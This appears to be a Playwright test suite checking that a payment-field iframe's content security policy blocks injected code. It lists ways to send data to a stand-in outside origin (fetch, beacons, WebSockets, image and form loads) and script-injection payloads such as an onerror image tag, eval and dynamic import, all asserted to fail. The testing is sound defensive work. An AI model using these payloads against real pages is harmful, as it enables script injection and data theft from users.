"""What a frame does by itself, and what code that somebody got into it could do."""

import json
import re

import pytest
from playwright.async_api import BrowserContext, Page, Request

from tests.support.chromium import Site
from tests.support.client import Server
from tests.support.hostile import (
    MOUNT,
    ONE,
    raw,
    tokenize,
    typed,
)
from tests.support.secure_page import html, visit

pytestmark = pytest.mark.asyncio(loop_scope="session")


_OUT = {
    "connect-src": {
        "fetch": "fetch(there, { mode: 'no-cors' })",
        "request": "((x) => { x.open('GET', there); x.send(); })(new XMLHttpRequest())",
        "beacon": "navigator.sendBeacon(there, 'x')",
        "socket": "new WebSocket(there.replace('http', 'ws'))",
        "events": "new EventSource(there)",
    },
    "img-src": {
        "image": "new Image().src = there",
        "preload": "add('link', { rel: 'preload', as: 'image', href: there })",
        "icon": "add('link', { rel: 'icon', href: there })",
    },
    "style-src-elem": {
        "sheet": "add('link', { rel: 'stylesheet', href: there })",
        "style": "add('style', { textContent: `body { background: url(${there}) }` })",
    },
    "style-src-attr": {"attribute": "add('p').setAttribute('style', `mask: url(${there})`)"},
    "frame-src": {"frame": "add('iframe', { src: there })"},
    "media-src": {"media": "add('video', { src: there })"},
    "form-action": {"form": "add('form', { action: there, method: 'post' }).submit()"},
    "require-trusted-types-for": {"object": "add('object', { data: there })"},
}
_TRIED = """async ([code, there]) => {
  const broken = new Promise((tell) => {
    const tells = ({ effectiveDirective }) => tell(effectiveDirective);
    document.addEventListener("securitypolicyviolation", tells, { once: true });
  });
  const add = (name, held = {}) => {
    const made = Object.assign(document.createElement(name), held);
    document.body.append(made);
    return made;
  };
  try { Promise.resolve(eval(code)).catch(() => {}); } catch {}
  return Promise.race([broken, new Promise((tell) => setTimeout(() => tell("nobody"), 5_000))]);
}"""


async def test_no_way_out_of_the_frame(page: Page, bank: Site, stranger: Site, server: Server):
    """Had somebody got code into it, it could tell nobody: the policy of the page knows no host
    but its own."""
    hostile = await raw(page, bank, server)
    await hostile.open("one")
    there = f"{stranger.origin}/seen"
    refused = {
        directive: {
            way: await hostile.frame().evaluate(_TRIED, [code, there]) for way, code in ways.items()
        }
        for directive, ways in _OUT.items()
    }
    assert refused == {name: dict.fromkeys(ways, name) for name, ways in _OUT.items()}
    assert stranger.received == []
    # the control: a page without such a policy reaches it
    await page.evaluate("(there) => fetch(there, { mode: 'no-cors' })", there)
    assert stranger.received == [("/seen", b"")]


_CODE = {
    "inline script": "add('script', { text: 'pwned = 1' })",
    "foreign script": "add('script', { src: there })",
    "markup": "document.body.innerHTML = '<img src=x onerror=pwned=1>'",
    "write": "document.write('<p>')",
    "eval": "(0, eval)('pwned = 1')",
    "function": "new Function('pwned = 1')()",
    "timer": "setTimeout('pwned = 1')",
    "handler": "document.body.setAttribute('onclick', 'pwned = 1')",
    "policy": "trustedTypes.createPolicy('mine', { createHTML: (x) => x })",
    "default policy": "trustedTypes.createPolicy('default', { createHTML: (x) => x })",
    "worker": "new Worker(there)",
    "own worker": "new Worker(document.scripts[0].src)",
    "import": "import(there)",
}
_RUN = """(there) => new Promise((tell) => setTimeout(async () => {
  const make = (name) => document.createElement(name);
  const add = (name, held) => document.body.append(Object.assign(make(name), held));
  try { await (CODE); tell("done"); } catch (error) { tell(error.name); }
}))"""  # in a timer, because what a debugger evaluates may evaluate


async def test_no_code_into_the_frame(page: Page, bank: Site, stranger: Site, server: Server):
    """Trusted Types without a policy, and no script but the one: a flaw that wrote markup into
    the frame would still run nothing."""
    hostile = await raw(page, bank, server)
    await hostile.open("one")
    frame, there = hostile.frame(), f"{stranger.origin}/seen"
    how = {
        way: await frame.evaluate(_RUN.replace("CODE", code), there) for way, code in _CODE.items()
    }
    usual = {"eval": "EvalError", "function": "EvalError"}
    assert how == {way: usual.get(way, "TypeError") for way in _CODE}
    await frame.evaluate(
        "(href) => { document.head.append(Object.assign("
        "document.createElement('base'), { href })); }",
        stranger.origin,
    )
    assert await frame.evaluate("document.baseURI.startsWith(location.origin)")
    assert await frame.evaluate("typeof pwned") == "undefined"
    assert stranger.received == []


async def test_it_keeps_nothing_and_has_no_worker(
    context: BrowserContext, page: Page, bank: Site, server: Server
):
    """No cookie, no storage, no service worker; neither by itself nor by the page around it."""
    await visit(page, bank, server, ONE, MOUNT)
    await typed(page)
    await tokenize(page)
    frame = page.main_frame.child_frames[0]
    kept = await frame.evaluate("""async () => [
      document.cookie, localStorage.length, sessionStorage.length, await caches.keys(),
      await indexedDB.databases(), (await navigator.serviceWorker.getRegistrations()).length,
    ]""")
    assert kept == ["", 0, 0, [], [], 0]
    assert await context.cookies() == []
    for where in (frame, page.main_frame):
        refused = await where.evaluate(
            "(script) => navigator.serviceWorker.register(script).catch(({ name }) => name)",
            await frame.evaluate("document.scripts[0].src"),
        )
        assert refused in ("TypeError", "SecurityError")


async def test_it_asks_for_its_page_its_script_and_tokens_only(
    page: Page, bank: Site, server: Server
):
    """And says to nobody where it is shown: the address of a page may be a secret, too."""
    asked: list[Request] = []
    page.on("request", lambda request: asked.append(request))
    bank.put("/secret", html(server, ONE, MOUNT))
    await page.goto(f"{bank.origin}/secret?session=private")
    await typed(page)
    await tokenize(page)
    frames = server.credentials["frames_url"]
    ours = [one for one in asked if one.url.startswith(frames)]
    paths = [one.url.removeprefix(frames).partition("?")[0] for one in ours]
    assert [re.sub(r"\.[0-9a-f]{16}\.", ".", path) for path in paths] == [
        *("/field", "/static/field.js", "/tokens")
    ]
    for request in ours:
        headers = await request.all_headers()
        assert "referer" not in headers
        assert "cookie" not in headers
        assert "private" not in json.dumps(headers)
    others = {one.url for one in asked if not one.url.startswith((frames, bank.origin))}
    assert others == {f"{server.base_url}/app/secure/static/client.1.js"}
